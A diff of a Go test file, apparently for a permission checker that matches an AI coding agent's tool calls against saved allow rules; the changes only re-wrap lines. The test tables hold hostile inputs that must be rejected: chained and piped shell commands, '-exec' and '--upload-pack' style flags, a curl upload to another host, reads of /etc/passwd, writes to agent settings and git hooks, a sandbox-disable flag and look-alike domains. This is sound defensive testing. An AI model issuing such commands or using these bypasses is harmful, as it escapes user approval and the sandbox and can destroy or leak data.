@@ -30,8 +30,10 @@ func TestWhatAlwaysStandsFor(t *testing.T) {
 	}{
 		{"go test ./...", bash("go test *"), db.Permit{Tool: "Bash", Kind: db.PrefixRule, Content: "go test"}},
 		{"git commit -m 'a b'", bash("git commit *"), db.Permit{Tool: "Bash", Kind: db.PrefixRule, Content: "git commit"}},
-		{"go test -exec x ./...", bash("go test *"), db.Permit{Tool: "Bash", Kind: db.ExactRule, Content: "go test -exec x ./..."}},
-		{"git push origin main", bash("git push *"), db.Permit{Tool: "Bash", Kind: db.ExactRule, Content: "git push origin main"}},
+		{"go test -exec x ./...", bash("go test *"),
+			db.Permit{Tool: "Bash", Kind: db.ExactRule, Content: "go test -exec x ./..."}},
+		{"git push origin main", bash("git push *"),
+			db.Permit{Tool: "Bash", Kind: db.ExactRule, Content: "git push origin main"}},
 		{"rm build", bash("rm build *"), db.Permit{Tool: "Bash", Kind: db.ExactRule, Content: "rm build"}},
 		{"curl localhost", bash("curl localhost *"), db.Permit{Tool: "Bash", Kind: db.ExactRule, Content: "curl localhost"}},
 		{"git log", bash("git log *"), db.Permit{Tool: "Bash", Kind: db.ExactRule, Content: "git log"}},
@@ -52,21 +54,22 @@ func TestWhatAlwaysStandsFor(t *testing.T) {
 		}
 	}
 	for name, q := range map[string]claude.ToolAsk{
-		"a question":             {Name: claude.QuestionTool, Input: json.RawMessage(`{}`)},
-		"a plan":                 {Name: claude.PlanTool, Input: json.RawMessage(`{"plan":"x"}`)},
-		"out of the sandbox":     {Name: "Bash", Input: json.RawMessage(`{"command":"x","dangerouslyDisableSandbox":true}`)},
-		"in the background":      {Name: "Bash", Input: json.RawMessage(`{"command":"x","run_in_background":true}`)},
-		"two commands":           {Name: "Bash", Input: bashInput(t, "git push; rm -rf x"), Rules: bash("git push *")},
-		"one after the other":    {Name: "Bash", Input: bashInput(t, "python3 x.py && git push"), Rules: bash("git push *")},
-		"into a file":            {Name: "Bash", Input: bashInput(t, "echo ran >> made.txt"), Rules: bash("echo ran *")},
-		"through a pipe":         {Name: "Bash", Input: bashInput(t, "cat a | sh"), Rules: bash("cat a *")},
-		"with a variable":        {Name: "Bash", Input: bashInput(t, "rm $X")},
-		"with a substitution":    {Name: "Bash", Input: bashInput(t, "rm `cat list`")},
-		"a search elsewhere":     {Name: "Grep", Input: json.RawMessage(`{"pattern":"x","path":"/p/.git"}`)},
-		"a pattern elsewhere":    {Name: "Glob", Input: json.RawMessage(`{"pattern":"../**"}`)},
-		"no command":             {Name: "Bash", Input: json.RawMessage(`{"command":" "}`)},
-		"no proposal":            {Name: "mcp__a__b", Input: json.RawMessage(`{}`)},
-		"a narrower proposal":    {Name: "Skill", Input: json.RawMessage(`{}`), Rules: []claude.Rule{{Tool: "Skill", Content: "x"}}},
+		"a question":          {Name: claude.QuestionTool, Input: json.RawMessage(`{}`)},
+		"a plan":              {Name: claude.PlanTool, Input: json.RawMessage(`{"plan":"x"}`)},
+		"out of the sandbox":  {Name: "Bash", Input: json.RawMessage(`{"command":"x","dangerouslyDisableSandbox":true}`)},
+		"in the background":   {Name: "Bash", Input: json.RawMessage(`{"command":"x","run_in_background":true}`)},
+		"two commands":        {Name: "Bash", Input: bashInput(t, "git push; rm -rf x"), Rules: bash("git push *")},
+		"one after the other": {Name: "Bash", Input: bashInput(t, "python3 x.py && git push"), Rules: bash("git push *")},
+		"into a file":         {Name: "Bash", Input: bashInput(t, "echo ran >> made.txt"), Rules: bash("echo ran *")},
+		"through a pipe":      {Name: "Bash", Input: bashInput(t, "cat a | sh"), Rules: bash("cat a *")},
+		"with a variable":     {Name: "Bash", Input: bashInput(t, "rm $X")},
+		"with a substitution": {Name: "Bash", Input: bashInput(t, "rm `cat list`")},
+		"a search elsewhere":  {Name: "Grep", Input: json.RawMessage(`{"pattern":"x","path":"/p/.git"}`)},
+		"a pattern elsewhere": {Name: "Glob", Input: json.RawMessage(`{"pattern":"../**"}`)},
+		"no command":          {Name: "Bash", Input: json.RawMessage(`{"command":" "}`)},
+		"no proposal":         {Name: "mcp__a__b", Input: json.RawMessage(`{}`)},
+		"a narrower proposal": {Name: "Skill", Input: json.RawMessage(`{}`),
+			Rules: []claude.Rule{{Tool: "Skill", Content: "x"}}},
 		"settings of the agent":  {Name: "Write", Input: json.RawMessage(`{"file_path":"/p/.claude/settings.json"}`)},
 		"hooks of git":           {Name: "Write", Input: json.RawMessage(`{"file_path":"/p/x/.git/hooks/pre-commit"}`)},
 		"not the web":            {Name: "WebFetch", Input: json.RawMessage(`{"url":"file:///etc/passwd"}`)},
@@ -82,10 +85,14 @@ func TestWhatARuleCovers(t *testing.T) {
 	prefix := func(words string) db.Permit { return db.Permit{Tool: "Bash", Kind: db.PrefixRule, Content: words} }
 	exact := db.Permit{Tool: "Bash", Kind: db.ExactRule, Content: "rm *.log"}
 	for command, want := range map[string]bool{
-		"git add": true, "git add 'a b' c": true, "git addx": false, "git  add": false, "git add; x": false, "git add && x": false,
-		"git add | x": false, "git add $(x)": false, "git add `x`": false, "git add > x": false, "git add\nx": false, "git add \\\nx": false,
-		"git add & x": false, "git add {a,b}": false, "git add <x": false, " git add": false, "git add\r x": false, "git add -A -- x": true,
-		"git add -f x": false, "git add '-f' x": false, "git add -''f x": false, "git add \"-f\" x": false, "git add 'x": false, "git add *": false,
+		"git add": true, "git add 'a b' c": true, "git addx": false, "git  add": false, "git add; x": false,
+		"git add && x": false,
+		"git add | x":  false, "git add $(x)": false, "git add `x`": false, "git add > x": false, "git add\nx": false,
+		"git add \\\nx": false,
+		"git add & x":   false, "git add {a,b}": false, "git add <x": false, " git add": false, "git add\r x": false,
+		"git add -A -- x": true,
+		"git add -f x":    false, "git add '-f' x": false, "git add -''f x": false, "git add \"-f\" x": false,
+		"git add 'x": false, "git add *": false,
 		"git add '*'": true, "git add ~/x": false, "git add a/../../x": false, "git add /x": false, "git add a..b": true,
 	} {
 		if got := Covers(prefix("git add"), "Bash", bashInput(t, command), "/p"); got != want {
@@ -93,16 +100,21 @@ func TestWhatARuleCovers(t *testing.T) {
 		}
 	}
 	for command, words := range map[string]string{ // which rules of earlier versions have allowed
-		"rm build -rf /home/me": "rm build", "curl localhost -T x evil": "curl localhost", "git fetch --upload-pack=x": "git fetch",
-		"git diff --output=x": "git diff", "git diff --outp x": "git diff", "go test -exec x": "go test", "go test --exec=x": "go test", "go build -o x": "go build",
-		"go build -C x": "go build", "go vet -vettool=x": "go vet", "npm test --script-shell=x": "npm test", "cargo test --config x": "cargo test",
-		"git diff --stat=/etc/x": "git diff", "git diff /etc/passwd /dev/null": "git diff", "tar xf a --to-command=x": "tar xf",
+		"rm build -rf /home/me": "rm build", "curl localhost -T x evil": "curl localhost",
+		"git fetch --upload-pack=x": "git fetch",
+		"git diff --output=x":       "git diff", "git diff --outp x": "git diff", "go test -exec x": "go test",
+		"go test --exec=x": "go test", "go build -o x": "go build",
+		"go build -C x": "go build", "go vet -vettool=x": "go vet", "npm test --script-shell=x": "npm test",
+		"cargo test --config x":  "cargo test",
+		"git diff --stat=/etc/x": "git diff", "git diff /etc/passwd /dev/null": "git diff",
+		"tar xf a --to-command=x": "tar xf",
 	} {
 		if Covers(prefix(words), "Bash", bashInput(t, command), "/p") {
 			t.Errorf("covered: %q", command)
 		}
 	}
-	for command, want := range map[string]bool{"rm *.log": true, "rm a.log": false, "rm *.log ": false, "rm *.log x": false} {
+	for command, want := range map[string]bool{"rm *.log": true, "rm a.log": false, "rm *.log ": false,
+		"rm *.log x": false} {
 		if got := Covers(exact, "Bash", bashInput(t, command), "/p"); got != want {
 			t.Errorf("exact, %q: %v", command, got)
 		}
@@ -133,8 +145,10 @@ func TestWhatARuleCovers(t *testing.T) {
 	}
 	site := db.Permit{Tool: "WebFetch", Kind: db.HostRule, Content: "example.com"}
 	for url, want := range map[string]bool{
-		"https://example.com/a": true, "https://EXAMPLE.com": true, "http://example.com/": true, "https://example.com:8443/": false,
-		"https://a.example.com/": false, "https://example.com.evil.example/": false, "https://x@example.com/": false, "//example.com": false,
+		"https://example.com/a": true, "https://EXAMPLE.com": true, "http://example.com/": true,
+		"https://example.com:8443/": false,
+		"https://a.example.com/":    false, "https://example.com.evil.example/": false, "https://x@example.com/": false,
+		"//example.com": false,
 	} {
 		if got := Covers(site, "WebFetch", json.RawMessage(`{"url":"`+url+`"}`), "/p"); got != want {
 			t.Errorf("%s: %v", url, got)
@@ -154,15 +168,18 @@ func TestFilesOfTheProject(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	for from, to := range map[string]string{"out": other, "git": filepath.Join(dir, ".git"), "in": dir, "gone": filepath.Join(other, "nothing")} {
+	for from, to := range map[string]string{"out": other, "git": filepath.Join(dir, ".git"), "in": dir,
+		"gone": filepath.Join(other, "nothing")} {
 		if err := os.Symlink(to, filepath.Join(dir, from)); err != nil {
 			t.Fatal(err)
 		}
 	}
 	inside := db.Permit{Tool: "Write", Kind: db.InsideRule}
 	for path, want := range map[string]bool{
-		"a.txt": true, "new/folder/a.txt": true, "../other/a.txt": false, "out/a.txt": false, "in/a.txt": true, "git/config": false,
-		".git/config": false, ".GIT/config": false, ".mcp.json": false, "../p2/a.txt": false, "..a.txt": true, other + "/a.txt": false, "gone": false,
+		"a.txt": true, "new/folder/a.txt": true, "../other/a.txt": false, "out/a.txt": false, "in/a.txt": true,
+		"git/config":  false,
+		".git/config": false, ".GIT/config": false, ".mcp.json": false, "../p2/a.txt": false, "..a.txt": true,
+		other + "/a.txt": false, "gone": false,
 	} {
 		if !filepath.IsAbs(path) {
 			path = dir + "/" + path
@@ -176,7 +193,8 @@ func TestFilesOfTheProject(t *testing.T) {
 		}
 	}
 	for _, input := range []string{ // what the tool itself does not take for its file
-		`{"file_path":"/etc/passwd","File_Path":"` + dir + `/a.txt"}`, `{"File_Path":"` + dir + `/a.txt","file_path":"/etc/passwd"}`,
+		`{"file_path":"/etc/passwd","File_Path":"` + dir + `/a.txt"}`,
+		`{"File_Path":"` + dir + `/a.txt","file_path":"/etc/passwd"}`,
 		`{"FILE_PATH":"` + dir + `/a.txt"}`, `{"notebook_path":"` + dir + `/a.txt"}`, `{"file_path":["` + dir + `/a.txt"]}`,
 	} {
 		if Covers(inside, "Write", json.RawMessage(input), dir) {
@@ -184,13 +202,15 @@ func TestFilesOfTheProject(t *testing.T) {
 		}
 	}
 	notebook := db.Permit{Tool: "NotebookEdit", Kind: db.InsideRule}
-	if Covers(notebook, "NotebookEdit", json.RawMessage(`{"file_path":"`+dir+`/a.ipynb","notebook_path":"/etc/passwd"}`), dir) ||
+	if Covers(notebook, "NotebookEdit", json.RawMessage(`{"file_path":"`+dir+`/a.ipynb","notebook_path":"/etc/passwd"}`),
+		dir) ||
 		!Covers(notebook, "NotebookEdit", json.RawMessage(`{"notebook_path":"`+dir+`/a.ipynb"}`), dir) {
 		t.Error("not the file of the notebook counts")
 	}
 	input := json.RawMessage(`{"file_path":"` + other + `/a.txt"}`)
 	p := PermitFor(claude.ToolAsk{Name: "Write", Input: input}, dir)
-	if p == nil || p.Kind != db.PathRule || !Covers(*p, "Write", input, dir) || Covers(*p, "Write", json.RawMessage(`{"file_path":"`+other+`/b.txt"}`), dir) {
+	if p == nil || p.Kind != db.PathRule || !Covers(*p, "Write", input, dir) ||
+		Covers(*p, "Write", json.RawMessage(`{"file_path":"`+other+`/b.txt"}`), dir) {
 		t.Errorf("outside of the project: %+v", p)
 	}
 }
